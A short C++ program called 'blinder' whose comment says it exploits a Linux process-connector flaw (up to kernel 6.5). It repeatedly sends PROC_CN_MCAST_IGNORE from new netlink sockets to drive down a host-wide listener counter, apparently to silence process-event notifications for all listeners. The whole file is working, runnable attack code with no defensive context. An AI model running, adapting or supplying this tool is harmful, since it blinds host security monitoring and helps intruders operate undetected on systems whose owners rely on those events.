// blinder COUNT
//
// Sends PROC_CN_MCAST_IGNORE so many times, each from a socket of its own. Up to Linux 6.5 the listeners of the process
// connector are one counter for the whole host, and each of these takes one off.
#include <linux/netlink.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstdlib>

namespace {

struct Message {
  nlmsghdr netlink;
  uint32_t idx, val, seq, ack;
  uint16_t len, flags;
  uint32_t operation;
} __attribute__((packed));

constexpr uint32_t kGroup = 1;   // CN_IDX_PROC, CN_VAL_PROC
constexpr uint32_t kIgnore = 2;  // PROC_CN_MCAST_IGNORE

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  for (int i = 0; i < atoi(argv[1]); i++) {
    int fd = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_CONNECTOR);
    Message message{};
    message.netlink.nlmsg_len = sizeof message;
    message.netlink.nlmsg_type = NLMSG_DONE;
    message.idx = message.val = kGroup;
    message.len = sizeof message.operation;
    message.operation = kIgnore;
    if (fd < 0 || send(fd, &message, sizeof message, 0) < 0) {
      perror("blinder");
      return 1;
    }
    close(fd);
  }
  puts("sent");
  return 0;
}
